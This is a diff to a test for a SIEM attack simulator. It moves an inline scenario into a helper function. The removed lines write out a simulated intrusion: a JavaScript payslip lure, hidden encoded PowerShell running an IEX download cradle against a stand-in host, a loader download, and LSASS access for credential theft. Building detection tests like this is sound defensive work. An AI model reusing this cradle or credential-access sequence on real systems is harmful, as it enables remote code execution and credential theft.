@@ -18,6 +18,7 @@ from graphsiem.simulator.engine import simulate
 from graphsiem.store.embedded import EmbeddedStore
 from ingest.journal import Journal
 from ingest.pipeline import ingest_paths
+from tests.analytics.cradle_steps import cradle_steps
 
 HOSTS = 120
 
@@ -30,14 +31,7 @@ pivot: {type: domain, value: cdn-img-delivery2.example}
 activities:
   - schedule: {every: once, day: last, at: "11:12", spread_minutes: 10}
     steps:
-      - {action: process, parent: explorer, image: 'C:\Windows\System32\wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\{{user}}\Downloads\Payslip.js"', indicator: false}
-      - action: process
-        image: 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
-        command_line: 'powershell.exe -nop -w hidden -enc {{encoded}}'
-        encoded_command: "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery2.example/img/b.png')"
-      - {action: download, url: 'http://cdn-img-delivery2.example/img/b.png', content: b.png loader, size: 734812}
-      - {action: lsass_access, granted_access: '0x1010'}
-"""
+""" + cradle_steps("http://cdn-img-delivery2.example/img/b.png", script="Payslip.js", loader="b.png loader", size=734812)
 
 PATCH = r"""
 name: patch_all
